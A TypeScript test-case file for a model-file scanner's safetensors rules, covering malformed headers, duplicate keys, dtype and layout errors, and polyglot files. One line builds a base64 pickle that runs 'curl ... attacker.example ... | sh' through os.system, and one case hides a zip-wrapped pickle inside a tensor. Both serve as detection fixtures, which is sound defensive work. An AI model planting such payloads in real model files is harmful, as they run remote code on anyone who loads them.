/**
 * Rule cases of the safetensors rules (firing and non-firing file trees).
 * Test-time only (imports the test-fixture builders and reads test-fixtures/real); run end to end by
 * the engine's rule-case test and in process by src/model-scanners/rule-cases.test.ts.
 */
import { readFileSync } from 'node:fs';
import type { RuleCase, RuleCases } from '../../rules/index.js';
import { ruleCases } from '../../rules/index.js';
import { tinyPickle } from '../../../test-fixtures/hf-builder.js';
import { rawSafetensors, safetensorsFile, tinyZip } from '../../../test-fixtures/safetensors-builder.js';
import { pickle, tuple } from '../../../test-fixtures/pickle-builder.js';

const EVIL_B64 = Buffer.from(pickle((b) => b.proto(2).global('os', 'system').value(tuple('curl -s http://attacker.example/x | sh')).reduce().stop())).toString('base64');


const REAL = new URL('../../../test-fixtures/real/', import.meta.url);
const real = (name: string) => (): Uint8Array => readFileSync(new URL(name, REAL));

const T = [
  { name: 'w', dtype: 'F32', shape: [2, 2] },
  { name: 'b', dtype: 'F16', shape: [2] },
];

const REAL_SAFETENSORS: RuleCase = { name: 'real safetensors file (safetensors 0.8)', files: { 'model.safetensors': real('tiny.safetensors') } };

export const SAFETENSORS_RULE_CASES: readonly RuleCases[] = [
  ruleCases('safetensors/embedded-object', {
    valid: [REAL_SAFETENSORS, { name: 'ordinary metadata (format, a JSON config)', files: { 'model.safetensors': () => safetensorsFile(T, { metadata: { format: 'pt', config: '{"hidden_size": 8, "layers": [1, 2, 3]}' } }) } }],
    invalid: [{ name: 'a base64 pickle in __metadata__', files: { 'model.safetensors': () => safetensorsFile(T, { metadata: { format: 'pt', extra: EVIL_B64 } }) }, expect: { severity: 'medium', messageIncludes: 'base64-encoded pickle' } }],
  }),
  ruleCases('safetensors/malformed-header', {
    valid: [REAL_SAFETENSORS],
    invalid: [
      { name: 'header length past the end of the file', files: { 'model.safetensors': () => safetensorsFile(T, { lengthOverride: 1_000_000n }) }, expect: { messageIncludes: 'past the end' } },
      { name: 'header is not JSON', files: { 'model.safetensors': () => rawSafetensors('{"w": {"dtype": "F32",') } },
    ],
  }),
  ruleCases('safetensors/duplicate-key', {
    valid: [REAL_SAFETENSORS],
    invalid: [{ name: 'tensor name twice', files: { 'model.safetensors': () => rawSafetensors('{"t":{"dtype":"U8","shape":[1],"data_offsets":[0,1]},"t":{"dtype":"U8","shape":[1],"data_offsets":[0,1]}}', 1) }, expect: { evidenceIncludes: 't' } }],
  }),
  ruleCases('safetensors/unknown-dtype', {
    valid: [REAL_SAFETENSORS, { name: 'sub-byte and FP8 dtypes', files: { 'q.safetensors': () => safetensorsFile([{ name: 'a', dtype: 'F4', shape: [8] }, { name: 'b', dtype: 'F8_E8M0', shape: [2] }]) } }],
    invalid: [{ name: 'dtype Q4', files: { 'model.safetensors': () => safetensorsFile([{ name: 'a', dtype: 'Q4', shape: [2] }]) } }],
  }),
  ruleCases('safetensors/tensor-size-mismatch', {
    valid: [REAL_SAFETENSORS],
    invalid: [{ name: 'F32 [2] spanning 9 bytes', files: { 'model.safetensors': () => safetensorsFile([{ name: 'x', dtype: 'F32', shape: [2] }], { offsets: { x: [0, 9] }, data: new Uint8Array(9) }) } }],
  }),
  ruleCases('safetensors/data-layout', {
    valid: [REAL_SAFETENSORS],
    invalid: [
      { name: 'bytes after the last tensor', files: { 'model.safetensors': () => safetensorsFile(T, { append: new Uint8Array(16) }) } },
      { name: 'overlapping tensors', files: { 'model.safetensors': () => rawSafetensors('{"a":{"dtype":"U8","shape":[2],"data_offsets":[0,2]},"b":{"dtype":"U8","shape":[2],"data_offsets":[1,3]}}', 3) }, expect: { messageIncludes: 'overlaps' } },
    ],
  }),
  ruleCases('safetensors/invalid-metadata', {
    valid: [REAL_SAFETENSORS],
    invalid: [{ name: '__metadata__ with a number', files: { 'model.safetensors': () => rawSafetensors('{"__metadata__":{"epochs":3}}') } }],
  }),
  ruleCases('safetensors/polyglot', {
    valid: [REAL_SAFETENSORS],
    invalid: [
      {
        name: 'a zip archive hidden in the last tensor (valid safetensors and valid zip)',
        files: {
          'model.safetensors': () => {
            const zip = tinyZip('archive/data.pkl', tinyPickle());
            return safetensorsFile([{ name: 'blob', dtype: 'U8', shape: [zip.length] }], { data: zip });
          },
        },
        expect: { severity: 'critical', evidenceIncludes: 'zip-eocd' },
      },
    ],
  }),
];
